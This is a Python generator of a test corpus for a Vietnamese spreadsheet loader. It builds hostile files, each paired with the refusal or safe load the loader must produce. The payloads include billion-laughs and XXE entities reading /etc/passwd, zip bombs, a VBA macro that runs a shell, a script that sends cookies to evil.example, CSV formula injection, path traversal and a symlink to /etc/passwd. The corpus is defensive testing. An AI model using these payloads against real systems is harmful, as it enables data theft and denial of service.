"""A corpus of hostile and broken submissions, built by code, each with the outcome it must get.

Every file is written by a function registered with `@case(...)`, which states next to it what the
loader must say: the rule id of the finding and a distinctive fragment of its Vietnamese message (or
`LOADED` and the rows, for the few files that are valid once their trap is defused). Nothing here is
committed but this generator; `build_corpus(folder)` writes the whole corpus in a second or two.

Some cases need a limit lower than production's (writing a 300 MB file would cost more than the test):
`LIMITS` names them, and `write_limits_hook` writes a `sitecustomize.py` that applies them in every
Python process started with it on PYTHONPATH, the reader's child process included.
"""

from __future__ import annotations

import csv
import gzip
import io
import os
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import openpyxl

from etl.demo.biff import biff8_workbook, ole_file

LOADED = "loaded"
REJECTED = "rejected"

# etl.readers limits lowered for the corpus run: a file just over MAX_FILE_BYTES stays small.
LIMITS = {"MAX_FILE_BYTES": 12 * 1024 * 1024}

# Reference data the accepted files need (tests/integration/test_hostile_corpus.py loads it first).
OFFICER_HEADER = ["Mã cán bộ", "Họ và tên", "Mã đơn vị", "Từ ngày", "Đến ngày"]
OFFICER_ROWS = [
    ["CB001", "Hoàng Thị Lan", "MC-HL", "01/01/2023", "30/06/2025"],
    ["CB002", "Nông Văn Hùng", "MC-HL", "01/01/2023", ""],
]
FEEDBACK_HEADER = [
    "Thời gian đánh giá",
    "Mã hồ sơ",
    "Mã cán bộ",
    "Thủ tục hành chính",
    "Mức độ hài lòng",
    "Ý kiến khác",
]
SHOPPING_HEADER = ["Tên hàng", "Số lượng", "Đơn giá"]
SHOPPING_ROWS = [["Gạo tám thơm", 2, 18000], ["Nước mắm Phú Quốc", 1, 45000], ["Rau muống", 3, 7000]]


@dataclass(frozen=True)
class Case:
    """One corpus file: where it is written, how it is named on the command line, and its outcome.

    `rule` is the rule id of the refusal (None for a loaded file) and `phrase` a fragment of its
    message; `loaded`/`rejected_rows` are the rows an accepted file must load and set aside. `cell` is
    a value the reader must return when it reads the file at all (a refusal by the loader, not the
    reader); `absent` a text that must appear nowhere in what was read or loaded.
    """

    name: str
    rule: str | None
    phrase: str
    build: Callable[[Path], None]
    argument: str | None = None
    loaded: int = 0
    rejected_rows: int = 0
    cell: str | None = None
    absent: str | None = None

    @property
    def status(self) -> str:
        return LOADED if self.rule is None else REJECTED

    @property
    def display_name(self) -> str:
        return Path(self.argument or self.name).name


CASES: list[Case] = []


def case(name: str, rule: str | None, phrase: str = "", **details: object) -> Callable:
    """Register the decorated builder as the corpus file `name` with its expected outcome."""

    def register(build: Callable[[Path], None]) -> Callable[[Path], None]:
        CASES.append(Case(name, rule, phrase, build, **details))  # type: ignore[arg-type]
        return build

    return register


@dataclass(frozen=True)
class Built:
    """A case as written: the path to pass on the command line."""

    case: Case
    path: Path


def build_corpus(folder: Path) -> list[Built]:
    """Write every case under `folder` (the project runs on Linux, where every case can be made)."""
    built = []
    for item in CASES:
        path = folder / item.name
        path.parent.mkdir(parents=True, exist_ok=True)
        item.build(path)
        if item.argument:
            # The argument walks down folders and back up with "..": make the folders it names exist.
            (folder / item.argument).parent.mkdir(parents=True, exist_ok=True)
        built.append(Built(item, folder / (item.argument or item.name)))
    return built


def write_limits_hook(folder: Path) -> Path:
    """A folder holding a sitecustomize.py that applies LIMITS; put it first on PYTHONPATH."""
    folder.mkdir(parents=True, exist_ok=True)
    lines = ["import etl.readers", *(f"etl.readers.{name} = {value}" for name, value in LIMITS.items())]
    (folder / "sitecustomize.py").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return folder


# --- Builders of ordinary content ---------------------------------------------------------------
def feedback_rows(prefix: str, count: int) -> list[list[object]]:
    """Ratings of officer CB002 in March 2024, with dossier codes unique to this file."""
    levels = ["Rất hài lòng", "Hài lòng", "Không hài lòng"]
    return [
        [
            f"{1 + i:02d}/03/2024 08:{i:02d}:00",
            f"{prefix}-{i:04d}",
            "CB002",
            "Đăng ký khai sinh",
            levels[i % 3],
            "",
        ]
        for i in range(count)
    ]


def xlsx_bytes(rows: list[list[object]], title: str = "Trang 1") -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = title
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def rewrite_zip(data: bytes, edits: dict[str, object]) -> bytes:
    """A copy of a zip with members replaced (bytes), transformed (callable) or added."""
    edits = dict(edits)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            member = zin.read(info.filename)
            edit = edits.pop(info.filename, None)
            member = edit(member) if callable(edit) else (member if edit is None else edit)
            zout.writestr(info.filename, member)
        for name, member in edits.items():
            zout.writestr(name, member)
    return out.getvalue()


def after_declaration(insert: bytes) -> Callable[[bytes], bytes]:
    """An edit that puts `insert` right after the XML declaration, where a DOCTYPE goes."""

    def edit(data: bytes) -> bytes:
        end = data.find(b"?>") + 2 if data.startswith(b"<?xml") else 0
        return data[:end] + insert + data[end:]

    return edit


def sst_xml(prolog: bytes = b"", text: bytes = b"CB002") -> bytes:
    """A shared-strings part of one string, with `prolog` (a DOCTYPE) after its XML declaration."""
    return (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' + prolog
        + b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
        + b"<si><t>" + text + b"</t></si></sst>"
    )  # fmt: skip


def with_shared_strings(data: bytes, part: bytes) -> bytes:
    """An openpyxl workbook (inline strings only) whose "CB002" cells read shared string 0 from `part`."""
    return rewrite_zip(
        data,
        {
            "xl/worksheets/sheet1.xml": lambda d: d.replace(
                b't="inlineStr"><is><t>CB002</t></is>', b't="s"><v>0</v>'
            ),
            "xl/_rels/workbook.xml.rels": lambda d: d.replace(
                b"</Relationships>",
                b'<Relationship Id="rIdSst" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                b'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
            ),
            "[Content_Types].xml": lambda d: d.replace(
                b"</Types>",
                b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
                b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
            ),
            "xl/sharedStrings.xml": part,
        },
    )


def shopping_xlsx() -> bytes:
    return xlsx_bytes([SHOPPING_HEADER, *SHOPPING_ROWS], "Mua sắm")


def html_table(rows: list[list[object]], head: str = "", cell_extra: str = "") -> str:
    header = "".join(f"<th>{name}</th>" for name in rows[0])
    body = "".join(
        "<tr>" + "".join(f"<td>{value}{cell_extra}</td>" for value in row) + "</tr>" for row in rows[1:]
    )
    table = f"<table><tr>{header}</tr>{body}</table>"
    return f'<html><head><meta charset="utf-8">{head}</head><body>{table}</body></html>'


def ods_bytes(rows: list[list[object]], content_prefix: bytes = b"") -> bytes:
    """A minimal OpenDocument spreadsheet of string cells."""

    def cell(value: object) -> str:
        return f'<table:table-cell office:value-type="string"><text:p>{value}</text:p></table:table-cell>'

    table_rows = "".join("<table:table-row>" + "".join(map(cell, row)) + "</table:table-row>" for row in rows)
    content = (
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
        f'<office:body><office:spreadsheet><table:table table:name="Đánh giá">{table_rows}'
        "</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED)
        zf.writestr(
            "content.xml", b'<?xml version="1.0" encoding="UTF-8"?>' + content_prefix + content.encode()
        )
        zf.writestr(
            "META-INF/manifest.xml",
            '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
            '<manifest:file-entry manifest:full-path="/" '
            'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/></manifest:manifest>',
        )
    return out.getvalue()


# Ten levels of ten: 10^9 "lol"s (3 GB) if a parser expanded &lol9;.
BILLION_LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (n, b"&lol%s;" % str(n - 1).encode().lstrip(b"0") * 10)
        for n in range(1, 10)
    )
    + b"]>"
)
EXTERNAL_ENTITY = b'<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


# --- Empty and truncated ------------------------------------------------------------------------
@case("01_rong.xlsx", "read.empty", "tệp rỗng (0 byte)")
def _empty(path: Path) -> None:
    path.write_bytes(b"")


@case("02_chi_khoang_trang.csv", "read.no_data", "tất cả các ô đều trống")
def _whitespace_csv(path: Path) -> None:
    path.write_bytes("   \r\n\t\t\r\n  ,  ,\u00a0\r\n\r\n".encode("utf-8"))  # \u00a0: no-break space


@case("03_tai_do_dang.xlsx", "read.damaged_zip", "chưa được tải lên hết")
def _truncated(path: Path) -> None:
    data = xlsx_bytes([FEEDBACK_HEADER, *feedback_rows("TD", 20)])
    path.write_bytes(data[: len(data) // 2])


# --- Other documents wearing a spreadsheet's name -----------------------------------------------
@case("04_bao_cao_la_pdf.xlsx", "read.pdf", "tệp là PDF, không phải bảng tính")
def _pdf(path: Path) -> None:
    path.write_bytes(
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
        b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    )


@case("05_anh_chup.xlsx", "read.image", "tệp là hình ảnh")
def _png(path: Path) -> None:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    path.write_bytes(
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


@case("06_to_trinh.xlsx", "read.word", "tệp là văn bản Word")
def _docx(path: Path) -> None:
    import docx

    document = docx.Document()
    document.add_paragraph("Tờ trình về việc phê duyệt kết quả chấm điểm CCHC năm 2024")
    document.add_table(rows=2, cols=2).cell(0, 0).text = "STT"
    document.save(path)


@case("07_cong_van_word97.xls", "read.word", "tệp là văn bản Word")
def _word97(path: Path) -> None:
    path.write_bytes(ole_file({"WordDocument": b"\xec\xa5\xc1\x00" + bytes(200), "1Table": bytes(600)}))


@case("08_nen_van_ban.xlsx", "read.zip_not_workbook", "không chứa sổ làm việc Excel")
def _text_zip(path: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("ghi_chu.txt", "Danh sách hồ sơ gửi kèm".encode())
        zf.writestr("so_lieu.csv", "Tên hàng,Số lượng\nGạo,2\n".encode())


@case("09_nen_long_nhau.xlsx", "read.zip_not_workbook", "không chứa sổ làm việc Excel")
def _nested_zip(path: Path) -> None:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("bao_cao.xlsx", xlsx_bytes([FEEDBACK_HEADER, *feedback_rows("NN", 3)]))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("ho_so.zip", inner.getvalue())


@case("10_nen_gzip.csv", "read.archive", "tệp là tệp nén (gzip)")
def _gzip(path: Path) -> None:
    path.write_bytes(gzip.compress(",".join(SHOPPING_HEADER).encode(), mtime=0))


# --- Zip bombs ----------------------------------------------------------------------------------
def patch_declared_size(data: bytes, member: str, size: int) -> bytes:
    """Make the central directory claim `size` inflated bytes for one member."""
    out = bytearray(data)
    pos = out.find(b"PK\x01\x02")
    while pos != -1:
        name_len = struct.unpack_from("<H", out, pos + 28)[0]
        if out[pos + 46 : pos + 46 + name_len] == member.encode():
            struct.pack_into("<I", out, pos + 24, size)
        pos = out.find(b"PK\x01\x02", pos + 46)
    return bytes(out)


@case("11_bom_kich_thuoc_khai_bao.xlsx", "read.zip_bomb", "nội dung sau khi giải nén quá lớn")
def _bomb_declared(path: Path) -> None:
    data = xlsx_bytes([FEEDBACK_HEADER, *feedback_rows("BD", 5)])
    path.write_bytes(patch_declared_size(data, "xl/worksheets/sheet1.xml", 0xF0000000))


@case("12_bom_ti_le_nen.xlsx", "read.zip_bomb", "tỉ lệ nén bất thường")
def _bomb_ratio(path: Path) -> None:
    # 64 MB of spaces inside the sheet deflate to ~64 KB: a 1000:1 ratio, a file of a few KB.
    data = xlsx_bytes([FEEDBACK_HEADER, *feedback_rows("BR", 5)])
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            member = zin.read(info.filename)
            if info.filename != "xl/worksheets/sheet1.xml":
                zout.writestr(info.filename, member)
                continue
            with zout.open(info.filename, "w", force_zip64=True) as fh:
                head, tail = member.split(b"<sheetData>")
                fh.write(head + b"<sheetData>")
                block = b" " * (1 << 20)
                for _ in range(64):
                    fh.write(block)
                fh.write(tail)


# --- XML with DOCTYPE / ENTITY declarations -----------------------------------------------------
@case("13_thuc_the_sheet1.xlsx", "read.xml_entities", "xl/worksheets/sheet1.xml")
def _entities_sheet(path: Path) -> None:
    data = xlsx_bytes([FEEDBACK_HEADER, *feedback_rows("E1", 3)])
    path.write_bytes(rewrite_zip(data, {"xl/worksheets/sheet1.xml": after_declaration(BILLION_LAUGHS)}))


@case("14_thuc_the_sharedStrings.xlsx", "read.xml_entities", "xl/sharedStrings.xml")
def _entities_shared_strings(path: Path) -> None:
    data = xlsx_bytes([FEEDBACK_HEADER, *feedback_rows("E2", 3)])
    path.write_bytes(with_shared_strings(data, sst_xml(BILLION_LAUGHS, b"&lol9;")))


@case("15_thuc_the_workbook.xlsx", "read.xml_entities", "xl/workbook.xml")
def _entities_workbook(path: Path) -> None:
    data = xlsx_bytes([FEEDBACK_HEADER, *feedback_rows("E3", 3)])
    path.write_bytes(rewrite_zip(data, {"xl/workbook.xml": after_declaration(BILLION_LAUGHS)}))


@case("16_thuc_the_content_types.xlsx", "read.xml_entities", "[Content_Types].xml")
def _entities_content_types(path: Path) -> None:
    data = xlsx_bytes([FEEDBACK_HEADER, *feedback_rows("E4", 3)])
    path.write_bytes(rewrite_zip(data, {"[Content_Types].xml": after_declaration(BILLION_LAUGHS)}))


@case("17_thuc_the_ngoai_xxe.xlsx", "read.xml_entities", "DOCTYPE/ENTITY", absent="root:")
def _external_entity(path: Path) -> None:
    data = xlsx_bytes([FEEDBACK_HEADER, *feedback_rows("E5", 3)])
    path.write_bytes(with_shared_strings(data, sst_xml(EXTERNAL_ENTITY, b"&xxe;")))


@case("18_thuc_the_sau_chu_thich_dai.xlsx", "read.xml_entities", "xl/sharedStrings.xml")
def _entities_after_long_comment(path: Path) -> None:
    # A prolog may hold comments: an element written inside one must not pass for the root element,
    # and 100 KB of comment must not push the DOCTYPE past the part of the file that is checked.
    data = xlsx_bytes([FEEDBACK_HEADER, *feedback_rows("E6", 3)])
    prolog = b"<!-- <sst/> " + b"x" * 100_000 + b" -->" + BILLION_LAUGHS
    path.write_bytes(with_shared_strings(data, sst_xml(prolog, b"&lol9;")))


@case("19_thuc_the_utf16.xlsx", "read.xml_entities", "xl/sharedStrings.xml")
def _entities_utf16(path: Path) -> None:
    data = xlsx_bytes([FEEDBACK_HEADER, *feedback_rows("E7", 3)])
    part = sst_xml(BILLION_LAUGHS, b"&lol9;").replace(b'encoding="UTF-8"', b'encoding="UTF-16"')
    path.write_bytes(with_shared_strings(data, part.decode("ascii").encode("utf-16")))


@case("20_thuc_the.ods", "read.xml_entities", "content.xml")
def _entities_ods(path: Path) -> None:
    path.write_bytes(ods_bytes([FEEDBACK_HEADER, ["&lol9;"]], content_prefix=BILLION_LAUGHS))


@case("21_xml2003_thuc_the.xls", "read.xml_entities", "DOCTYPE/ENTITY")
def _entities_xml2003(path: Path) -> None:
    path.write_bytes(
        b'<?xml version="1.0"?>'
        + BILLION_LAUGHS
        + b'<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet">'
        b'<Worksheet ss:Name="A" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Table><Row><Cell>'
        b'<Data ss:Type="String">&lol9;</Data></Cell></Row></Table></Worksheet></Workbook>'
    )


# --- Encrypted ----------------------------------------------------------------------------------
@case("22_ma_hoa_ooxml.xlsx", "read.encrypted", "được bảo vệ bằng mật khẩu")
def _encrypted_ooxml(path: Path) -> None:
    info = struct.pack("<HHI", 4, 4, 0x40) + bytes(60)  # agile encryption, version 4.4
    path.write_bytes(
        ole_file({"EncryptionInfo": info, "EncryptedPackage": struct.pack("<Q", 9000) + bytes(9000)})
    )


@case("23_ma_hoa_biff.xls", "read.encrypted", "được bảo vệ bằng mật khẩu")
def _encrypted_biff(path: Path) -> None:
    cells = {(0, 0): "Tên hàng", (0, 1): "Số lượng", (1, 0): "Gạo", (1, 1): 2}
    path.write_bytes(ole_file({"Workbook": biff8_workbook([("Mua sắm", cells, [])], encrypted=True)}))


# --- Spreadsheets whose trap is inside an otherwise valid file ----------------------------------
@case("24_co_macro.xlsm", None, loaded=8)
def _macros(path: Path) -> None:
    """Macros are never run: the values are read and the VBA project is ignored."""
    data = xlsx_bytes([FEEDBACK_HEADER, *feedback_rows("MC", 8)])
    macro = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    vba = ole_file(
        {"VBA": b'Attribute VB_Name = "ThisWorkbook"\r\nSub Workbook_Open()\r\nShell "calc"\r\nEnd Sub'}
    )
    path.write_bytes(
        rewrite_zip(
            data,
            {
                "[Content_Types].xml": lambda d: d.replace(
                    b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", macro
                ).replace(
                    b"</Types>",
                    b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
                ),
                "xl/_rels/workbook.xml.rels": lambda d: d.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/'
                    b'vbaProject" Target="vbaProject.bin"/></Relationships>',
                ),
                "xl/vbaProject.bin": vba,
            },
        )
    )


def _far_cell(rows: list[list[object]], far: bytes, dimension: bytes, *, first: bool = False) -> bytes:
    data = xlsx_bytes(rows)

    def edit(sheet: bytes) -> bytes:
        start = sheet.find(b"<dimension ref=")
        sheet = (
            sheet[:start] + b'<dimension ref="' + dimension + b'"/>' + sheet[sheet.find(b"/>", start) + 2 :]
        )
        if first:
            return sheet.replace(b"<sheetData>", b"<sheetData>" + far)
        return sheet.replace(b"</sheetData>", far + b"</sheetData>")

    return rewrite_zip(data, {"xl/worksheets/sheet1.xml": edit})


@case("25_o_XFD1048576.xlsx", "kind.unknown", "Không nhận ra loại tệp", cell="Gạo tám thơm")
def _xfd(path: Path) -> None:
    """calamine would allocate 17 billion cells for this sheet: the reader streams it instead."""
    far = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    path.write_bytes(_far_cell([SHOPPING_HEADER, *SHOPPING_ROWS], far, b"A1:XFD1048576"))


@case("26_o_xa_dong_sai_thu_tu.xlsx", "read.too_large", "vượt giới hạn bộ nhớ")
def _xfd_first(path: Path) -> None:
    """The far row written first hides it from the pre-scan: calamine aborts its process, not ours."""
    far = b'<row r="1048576"><c r="XFD1048576" t="n"><v>1</v></c></row>'
    path.write_bytes(_far_cell([SHOPPING_HEADER, *SHOPPING_ROWS], far, b"A1:C4", first=True))


@case("27_khai_2_trieu_dong.xlsx", None, loaded=6)
def _two_million_rows(path: Path) -> None:
    """The dimension claims 2,000,000 rows (more than Excel has); the sheet holds six ratings."""
    path.write_bytes(_far_cell([FEEDBACK_HEADER, *feedback_rows("HT", 6)], b"", b"A1:F2000000"))


@case("28_khong_co_trang_tinh.xlsx", "read.no_sheet", "không có trang tính dữ liệu nào")
def _no_sheets(path: Path) -> None:
    data = xlsx_bytes([SHOPPING_HEADER])

    def drop_sheets(workbook: bytes) -> bytes:
        start, end = workbook.find(b"<sheets>"), workbook.find(b"</sheets>") + len(b"</sheets>")
        return workbook[:start] + b"<sheets/>" + workbook[end:]

    path.write_bytes(rewrite_zip(data, {"xl/workbook.xml": drop_sheets}))


@case("29_trang_tinh_trong.xlsx", "read.no_data", "tất cả các ô đều trống")
def _empty_sheet(path: Path) -> None:
    path.write_bytes(xlsx_bytes([]))


@case("30_danh_sach_mua_sam.xlsx", "kind.unknown", "Không nhận ra loại tệp", cell="Nước mắm Phú Quốc")
def _unrelated(path: Path) -> None:
    path.write_bytes(shopping_xlsx())


@case("31_ods_phan_hoi.ods", None, loaded=5)
def _ods(path: Path) -> None:
    path.write_bytes(ods_bytes([FEEDBACK_HEADER, *feedback_rows("OD", 5)]))


# --- HTML saved as .xls -------------------------------------------------------------------------
@case("32_cong_dvc_co_script.xls", None, loaded=4, absent="evil.example")
def _html_script(path: Path) -> None:
    """Scripts are not data: Excel never shows them, and their text must not end up in a cell."""
    script = "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
    html = html_table([FEEDBACK_HEADER, *feedback_rows("SC", 4)], head=script, cell_extra=script)
    path.write_text(html, encoding="utf-8")


@case("33_trang_web_khong_bang.xls", "read.no_table", "không có bảng dữ liệu nào")
def _html_no_table(path: Path) -> None:
    path.write_text(
        '<!DOCTYPE html><html><head><meta charset="utf-8"></head><body><h1>Phiên làm việc đã hết hạn</h1>'
        "<p>Vui lòng đăng nhập lại Cổng dịch vụ công.</p></body></html>",
        encoding="utf-8",
    )


@case("34_the_long_nhau_sau.xls", "read.html_incomplete", "lồng nhau quá sâu")
def _html_deep(path: Path) -> None:
    """Two million nested tags (10 MB): the parser stops at its depth limit and drops the rest."""
    rows = [FEEDBACK_HEADER, *feedback_rows("LN", 3)]
    html = html_table(rows).replace("</td></tr>", "<div>" * 2_000_000 + "x</td></tr>", 1)
    path.write_text(html, encoding="utf-8")


# --- Text files ---------------------------------------------------------------------------------
@case("35_utf16_khong_bom.csv", "kind.unknown", "Không nhận ra loại tệp", cell="Nước mắm Phú Quốc")
def _utf16_no_bom(path: Path) -> None:
    lines = [SHOPPING_HEADER, *SHOPPING_ROWS]
    path.write_bytes("\r\n".join("\t".join(map(str, row)) for row in lines).encode("utf-16-le"))


@case("36_co_ky_tu_nul.csv", "read.unknown_format", "không phải định dạng bảng tính được hỗ trợ")
def _nul_padded(path: Path) -> None:
    """A download cut short and padded with NUL bytes, as a preallocated file is left."""
    text = "\r\n".join(",".join(map(str, row)) for row in [SHOPPING_HEADER, *SHOPPING_ROWS])
    path.write_bytes(text.encode("utf-8") + bytes(4096))


@case("37_rac_nhi_phan.csv", "read.unknown_format", "không phải định dạng bảng tính được hỗ trợ")
def _garbage(path: Path) -> None:
    rng = random.Random(20240301)
    path.write_bytes(bytes(rng.randrange(256) for _ in range(16384)))


@case("38_mot_dong_dai.csv", "read.csv_damaged", "gần dòng 1")
def _long_line(path: Path) -> None:
    """One 11 MB line: beyond the 10 MB a CSV field may hold, within the (lowered) file limit."""
    with path.open("wb") as fh:
        fh.write(b"Ghi ch\xc3\xba,")
        for _ in range(11):
            fh.write(b"a" * (1 << 20))
        fh.write(b"\r\n")


@case("39_vuot_gioi_han.csv", "read.file_too_large", "dung lượng 13 MB vượt giới hạn 12 MB")
def _too_large(path: Path) -> None:
    line = ",".join(FEEDBACK_HEADER).encode() + b"\r\n"
    with path.open("wb") as fh:
        fh.write(line)
        row = ",".join(map(str, feedback_rows("VL", 1)[0])).encode() + b"\r\n"
        fh.write(row * (LIMITS["MAX_FILE_BYTES"] // len(row) + 10))


@case(
    "40_cong_thuc_chen.csv",
    None,
    loaded=5,
    rejected_rows=1,
)
def _formula_injection(path: Path) -> None:
    """Cells that a spreadsheet would run as formulas are plain text here (CSV/DDE injection)."""
    rows = [FEEDBACK_HEADER, *feedback_rows("CT", 6)]
    rows[1][5] = '=HYPERLINK("https://evil.example/?x="&A1,"Bấm vào đây")'
    rows[2][5] = "+cmd|' /C calc'!A0"
    rows[3][5] = "@SUM(1)"
    rows[4][5] = "-2+3"
    rows[5][1] = "=1+1"  # a dossier code
    rows[6][4] = '=HYPERLINK("https://evil.example","Rất hài lòng")'  # a level: that row is set aside
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")


# --- Names --------------------------------------------------------------------------------------
@case("etc/x.xlsx", None, loaded=3, argument="a/b/../../etc/x.xlsx")
def _traversal(path: Path) -> None:
    """Named through "../..": the name must not decide where the warehouse keeps its copy."""
    path.write_bytes(xlsx_bytes([FEEDBACK_HEADER, *feedback_rows("PT", 3)]))


@case(
    "Bảng kê mua sắm tháng 3 – xã Hữu Lũng (bản cuối).xlsx",
    "kind.unknown",
    "Không nhận ra loại tệp",
    cell="Rau muống",
)
def _vietnamese_name(path: Path) -> None:
    path.write_bytes(shopping_xlsx())


@case("41_lien_ket_passwd.csv", "read.not_regular_file", "liên kết", absent="root:")
def _symlink(path: Path) -> None:
    """A symbolic link to a system file: refused without being read."""
    if path.is_symlink() or path.exists():
        path.unlink()
    os.symlink("/etc/passwd", path)
